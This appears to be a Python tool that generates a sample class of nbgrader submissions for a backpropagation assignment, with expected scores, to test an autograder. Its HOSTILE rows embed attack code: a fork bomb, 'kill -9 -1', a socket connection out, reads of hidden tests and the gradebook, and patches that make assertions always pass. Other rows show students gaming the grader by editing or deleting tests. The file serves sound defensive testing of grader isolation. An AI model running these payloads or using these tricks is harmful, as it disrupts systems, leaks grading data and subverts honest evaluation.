"""Makes a sample class: submissions, and the points that each submission must get.

    python -m tools.sample_class COURSE

This writes COURSE/submitted/STUDENT/ps5_backpropagation/ from the released notebook. The solution
cells are filled in from the reference and from exercises/specimens/. It sets the due date in the
gradebook, and writes the expected results to COURSE/submitted/expected.json. The expected results
are written by hand in the table CLASS below; no grader computes them. The assignment must have
been released in the course.
"""

from __future__ import annotations

import argparse
import copy
import json
import re
import sys
from collections.abc import Callable
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from autograder.authoring import specimens
from autograder.cells import grade_id, is_solution
from autograder.grading import attempt_logs

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "ps5_backpropagation"
DUE = datetime(2026, 10, 12, 18, 0, tzinfo=UTC)

POINTS: dict[str, float] = {
    "test_tanh_backward": 2,
    "test_saturated_fraction": 1,
    "test_max_pool_forward": 2,
    "test_max_pool_backward": 2,
    "test_max_pool_overlap": 2,
    "test_linear_backward": 2,
    "test_softmax_cross_entropy": 2,
    "test_network_gradients": 2,
    "test_training": 1,
    "test_numerical_gradient": 2,
    "test_gradient_check": 1,
    "test_repaired_backward": 1,
    "quiz_backprop_false": 2,
    "quiz_tanh_gradient": 1,
    "quiz_pool_gradient": 1,
}
QUESTIONS = ("backprop_false", "tanh_gradient", "pool_gradient")
PART_3 = ("linear_backward", "softmax_cross_entropy", "network_gradients")
PART_4 = ("numerical_gradient", "gradient_check", "repaired_backward")
TESTS_3 = (*(f"test_{name}" for name in PART_3), "test_training")
TESTS_4 = tuple(f"test_{name}" for name in PART_4)


class SampleClassError(Exception):
    """The sample class can't be made here. The message says what to do first."""


@dataclass(frozen=True)
class Expected:
    """The result that the grader must give to one student.

    Attributes:
        student: the student's id.
        kind: right, partly right, alternative, blank, late, mangled or hostile.
        about: what was handed in, in a few words.
        points: the points for each test; None if the submission can't be graded and needs review.
        score: the sum of the points; None if the submission needs review.
        late: whether the submission was handed in after the due date.
        stock: whether nbgrader without our changes gives the same result.
    """

    student: str
    kind: str
    about: str
    points: dict[str, float] | None
    score: float | None
    late: bool
    stock: bool


def write(notebook: NotebookNode) -> str:
    """Write the text of a notebook's file, as JupyterLab saves it."""
    return nbformat.writes(notebook) + "\n"


@dataclass(frozen=True)
class Submission:
    """One row of the class: how the submission is made, and the points that it loses.

    `specimens` are applied to the reference. The solution cells in `blank` are left as released.
    Then `save` turns the notebook into the text of the file `name`. All questions are answered
    right, with two exceptions: questions in `slips` are answered wrong first and right then, and
    questions in `unanswered` are not answered. `loses` names the tests that give no points.
    `make demo` shows the rows with `demo`, because the whole class takes minutes.
    """

    kind: str
    about: str
    specimens: tuple[str, ...] = ()
    blank: tuple[str, ...] = ()
    slips: tuple[str, ...] = ()
    unanswered: tuple[str, ...] = ()
    loses: tuple[str, ...] = ()
    save: Callable[[NotebookNode], str] = write
    name: str = f"{ASSIGNMENT}.ipynb"
    late: bool = False
    review: bool = False
    stock: bool = True
    demo: bool = False

    def expected(self, student: str) -> Expected:
        """Give the expected result if `student` hands in this submission."""
        earned = {test: 0 if test in self.loses else most for test, most in POINTS.items()}
        points = None if self.review else earned
        score = None if points is None else sum(points.values())
        return Expected(student, self.kind, self.about, points, score, self.late, self.stock)


def cell(notebook: NotebookNode, name: str) -> NotebookNode:
    """Find the cell of the notebook with this grade_id."""
    return next(cell for cell in notebook.cells if grade_id(cell) == name)


def with_notes(notebook: NotebookNode) -> str:
    """Add cells of the student's own, with text and output."""
    notebook.cells.insert(6, nbformat.v4.new_markdown_cell("My notes: 1 - y², not x²!", id="notes"))
    scratch = nbformat.v4.new_code_cell("print(torch.tanh(torch.tensor(1.0)))", id="scratch")
    scratch.outputs = [nbformat.v4.new_output("stream", text="tensor(0.7616)\n")]
    notebook.cells.insert(7, scratch)
    return write(notebook)


def with_failing_cell(notebook: NotebookNode) -> str:
    """Add a scratch cell that raises, between the other cells."""
    scratch = nbformat.v4.new_code_cell("torch.ones(2) @ torch.ones(3)", id="scratch")
    notebook.cells.insert(notebook.cells.index(cell(notebook, "test_max_pool_forward")), scratch)
    return write(notebook)


def with_edited_test(notebook: NotebookNode) -> str:
    """Replace the test that fails by "pass"."""
    cell(notebook, "test_max_pool_backward").source = "pass"
    return write(notebook)


def with_deleted_test(notebook: NotebookNode) -> str:
    """Delete a test cell."""
    notebook.cells.remove(cell(notebook, "test_tanh_backward"))
    return write(notebook)


def with_copied_test(notebook: NotebookNode) -> str:
    """Copy and paste a test cell."""
    original = cell(notebook, "test_tanh_backward")
    duplicate = copy.deepcopy(original)
    duplicate.id = "copied"
    notebook.cells.insert(notebook.cells.index(original) + 1, duplicate)
    return write(notebook)


def with_raised_points(notebook: NotebookNode) -> str:
    """Raise the points of a test that passes to 20."""
    cell(notebook, "test_tanh_backward").metadata.nbgrader.points = 20
    return write(notebook)


def with_endless_loop(notebook: NotebookNode) -> str:
    """Write a loop that never ends, because it doesn't move its window."""
    cell(notebook, "max_pool2d").source = (
        "def max_pool2d(x, kernel, stride):\n"
        "    top, rows = 0, []\n"
        "    while top + kernel <= x.shape[2]:\n"
        "        rows = [x[:, :, top : top + kernel].amax(dim=2)]\n"
        "    return torch.stack(rows, dim=2)"
    )
    return write(notebook)


def cut_short(notebook: NotebookNode) -> str:
    """Keep half of the file, as if the upload had broken off. It is no longer JSON."""
    text = write(notebook)
    return text[: len(text) // 2]


def nothing(_: NotebookNode) -> str:
    """Make an empty file."""
    return ""


def hostile(
    about: str,
    code: str,
    loses: tuple[str, ...] = (),
    *,
    check: str = "",
    at: str = "tanh_backward",
    demo: bool = False,
) -> Submission:
    """Make a submission with an attack. Only a grader with isolation may run it.

    Args:
        about: what the attack tries, in a few words.
        code: the attack, which is put at the beginning of a solution cell.
        loses: the tests that give no points.
        check: a specimen that is applied too. If the attack worked, its wrong solution would pass.
        at: the grade_id of the solution cell.
        demo: whether `make demo` shows it.
    """

    def save(notebook: NotebookNode) -> str:
        solution = cell(notebook, at)
        solution.source = f"{code}\n\n\n{solution.source}"
        return write(notebook)

    applied = (check,) if check else ()
    return Submission("hostile", about, applied, loses=loses, save=save, stock=False, demo=demo)


LAST = "repaired_backward"  # an error in this cell costs the points of its own test only
HOSTILE = (
    hostile(
        "tries to patch torch.isclose, allclose and equal",
        "torch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.isclose = lambda x, *a, **k: torch.ones_like(x, dtype=torch.bool)",
        ("test_max_pool_backward",),
        check="pool_rewards_every_tie",
    ),
    hostile(
        "tries to drop the assert from every test",
        "import ast\n"
        "class Drop(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.copy_location(ast.Pass(), node)\n"
        "get_ipython().ast_transformers.append(Drop())",
        ("test_numerical_gradient",),
        check="difference_one_sided",
        demo=True,
    ),
    hostile(
        "tries to read the hidden tests and the gradebook",
        "from pathlib import Path\n"
        f"files = [*Path({str(ROOT / 'exercises')!r}).rglob('{ASSIGNMENT}.ipynb')]\n"
        f"files += Path({str(ROOT / 'build')!r}).rglob('gradebook.db')\n"
        "print(files[0].read_bytes())",
        ("test_repaired_backward",),
        at=LAST,
        demo=True,
    ),
    hostile(
        "tries to send data over the network",
        "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=5)",
        ("test_repaired_backward",),
        at=LAST,
    ),
    hostile(
        "tries a fork bomb",
        "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(600)",
        ("test_repaired_backward",),
        at=LAST,
    ),
    hostile("kills every process that it can", "import os\nos.system('kill -9 -1')"),
)

CLASS = (
    Submission("right", "solves everything", demo=True),
    Submission("right", "solves everything, with cells of notes between", save=with_notes),
    Submission(
        "partly right",
        "wrong first and right then on two questions, no answer to the third",
        slips=("backprop_false", "tanh_gradient"),
        unanswered=("pool_gradient",),
        loses=("quiz_backprop_false", "quiz_tanh_gradient", "quiz_pool_gradient"),
        demo=True,
    ),
    Submission(
        "alternative", "pools by scatter_add", specimens=("alternative_scatter",), demo=True
    ),
    Submission("alternative", "pools by im2col", specimens=("alternative_fold",)),
    Submission("alternative", "numpy inside", specimens=("alternative_numpy",)),
    Submission(
        "partly right",
        "= where windows overlap",
        specimens=("pool_overwrites",),
        loses=("test_max_pool_overlap",),
        demo=True,
    ),
    Submission(
        "partly right",
        "slope of tanh as 1 - x²",
        specimens=("tanh_slope_from_x",),
        loses=(
            "test_tanh_backward",
            "test_saturated_fraction",
            "test_network_gradients",
            "test_training",
        ),
    ),
    Submission(
        "partly right", "parts 1 and 2 only", blank=PART_3 + PART_4, loses=TESTS_3 + TESTS_4
    ),
    Submission("partly right", "leaves out part 4", blank=PART_4, loses=TESTS_4),
    Submission(
        "partly right",
        "calls F.max_pool2d, differentiates the output, checks with ones",
        specimens=("pool_delegates_forward", "network_output_not_loss", "check_with_ones"),
        loses=(
            "test_max_pool_forward",
            "test_network_gradients",
            "test_training",
            "test_gradient_check",
        ),
    ),
    Submission(
        "blank",
        "as released",
        blank=(
            *("tanh_backward", "saturated_fraction", "max_pool2d", "max_pool2d_backward"),
            *(PART_3 + PART_4),
        ),
        unanswered=QUESTIONS,
        loses=tuple(POINTS),
        demo=True,
    ),
    Submission("late", "solves everything, 26 hours late", late=True, demo=True),
    Submission("mangled", "a cell between that raises", save=with_failing_cell),
    Submission(
        "mangled",
        "edited the test that fails to 'pass'",
        specimens=("pool_rewards_every_tie",),
        loses=("test_max_pool_backward",),
        save=with_edited_test,
        demo=True,
    ),
    Submission(
        "mangled",
        "raised the points of a test to 20",
        specimens=("difference_one_sided",),
        loses=("test_numerical_gradient",),
        save=with_raised_points,
    ),
    # nbgrader without our changes gives no points for a test cell that was deleted. It refuses a
    # notebook with a copied test cell, because it takes the copy for metadata of an old version.
    # We restore the test cells in both cases.
    Submission("mangled", "deleted a test cell", save=with_deleted_test, stock=False, demo=True),
    Submission("mangled", "copied a test cell", save=with_copied_test, stock=False),
    Submission(
        "mangled",
        "a loop that never ends",
        loses=("test_max_pool_forward",),
        save=with_endless_loop,
    ),
    Submission(
        "mangled", "cut short: not JSON", save=cut_short, review=True, stock=False, demo=True
    ),
    Submission("mangled", "an empty file", save=nothing, review=True, stock=False),
    Submission("mangled", "renamed the notebook", name="ps5.ipynb", review=True, stock=False),
    *HOSTILE,
)


def make_sample_class(course: Path, members: tuple[Submission, ...] = CLASS) -> list[Expected]:
    """Write the submissions of a class into a released nbgrader course.

    Args:
        course: the course's folder, with release/, source/ and gradebook.db of the assignment.
        members: the submissions. student01 hands in the first submission, and so on.

    Returns:
        The expected result of each student, in the order of `members`.

    Raises:
        SampleClassError: the assignment isn't released in the course, or the course holds
            submissions of other students. The sample must not be mixed with them.
    """
    released = _read(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    reference = _read(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    students = {f"student{number:02}": member for number, member in enumerate(members, 1)}
    submitted = course / "submitted"
    _refuse_other_students(submitted)
    _set_due_date(course)
    for number, (student, member) in enumerate(students.items()):
        time = DUE + timedelta(hours=26) if member.late else DUE - timedelta(hours=number + 1)
        folder = submitted / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        notebook = _fill_in(released, reference, member)
        (folder / member.name).write_text(member.save(notebook), encoding="utf-8")
        for name, content in _attempt_log(student, member, time).items():
            (folder / name).write_bytes(content)
        (folder / "timestamp.txt").write_text(f"{time:%Y-%m-%d %H:%M:%S} UTC\n", encoding="utf-8")
    expected = [member.expected(student) for student, member in students.items()]
    text = json.dumps([asdict(row) for row in expected], indent=1, ensure_ascii=False)
    (submitted / "expected.json").write_text(text + "\n", encoding="utf-8")
    return expected


def _attempt_log(student: str, member: Submission, handed_in: datetime) -> dict[str, bytes]:
    keys = ROOT / "exercises" / "keys" / f"{ASSIGNMENT}.yaml"
    attempts = []
    for question, right in attempt_logs.right_answers(keys, student).items():
        if question in member.slips:
            attempts.append((question, [3] if isinstance(right, list) else right + 1))
        if question not in member.unanswered:
            attempts.append((question, right))
    return attempt_logs.log_files(keys, student, attempts, handed_in - timedelta(hours=2))


def _read(path: Path) -> NotebookNode:
    if not path.exists():
        raise SampleClassError(f"{path} isn't there: first run: autograder release {ASSIGNMENT}")
    return nbformat.read(path, as_version=4)


def _refuse_other_students(submitted: Path) -> None:
    for path in sorted(submitted.glob("*/")):
        if not re.fullmatch(r"student\d\d", path.name):
            raise SampleClassError(
                f"{submitted} holds submissions of others ({path.name}): choose another course"
            )


def _set_due_date(course: Path) -> None:
    from nbgrader.api import Gradebook, MissingEntry  # here, because the import takes seconds

    path = course / "gradebook.db"
    remedy = f"first run: autograder release {ASSIGNMENT}"
    if not path.exists():
        raise SampleClassError(f"{path} isn't there: {remedy}")
    with Gradebook(f"sqlite:///{path.resolve()}") as gradebook:
        try:
            gradebook.find_assignment(ASSIGNMENT)
        except MissingEntry:
            raise SampleClassError(f"{path} has no {ASSIGNMENT}: {remedy}") from None
        gradebook.update_or_create_assignment(ASSIGNMENT, duedate=DUE.isoformat())


def _fill_in(released: NotebookNode, reference: NotebookNode, member: Submission) -> NotebookNode:
    """The released notebook, with the solutions of a submission in its solution cells."""
    for name in member.specimens:
        path = ROOT / "exercises" / "specimens" / ASSIGNMENT / f"{name}.py"
        reference = specimens.apply(specimens.load(path), reference)
    notebook = copy.deepcopy(released)
    for solution in reference.cells:
        if is_solution(solution) and grade_id(solution) not in member.blank:
            lines = solution.source.splitlines()
            code_lines = [line for line in lines if not line.lstrip().startswith("### ")]
            cell(notebook, solution.metadata.nbgrader.grade_id).source = "\n".join(code_lines)
    return notebook


def main(argv: list[str] | None = None) -> int:
    """Make the class and print the expected results. Return 1 if it can't be made, else 0."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("course", type=Path, help="an nbgrader course that has been released")
    course = parser.parse_args(argv).course
    try:
        expected = make_sample_class(course)
    except SampleClassError as error:
        print(f"sample_class: {error}", file=sys.stderr)
        return 1
    for row in expected:
        score = "review" if row.score is None else f"{row.score:g}"
        print(
            f"{row.student}  {row.kind:12}  {score:>6}  {'late' if row.late else '':4}  {row.about}"
        )
    print(f"{len(expected)} submissions in {course / 'submitted'}; expected.json is beside them")
    return 0


if __name__ == "__main__":
    sys.exit(main())
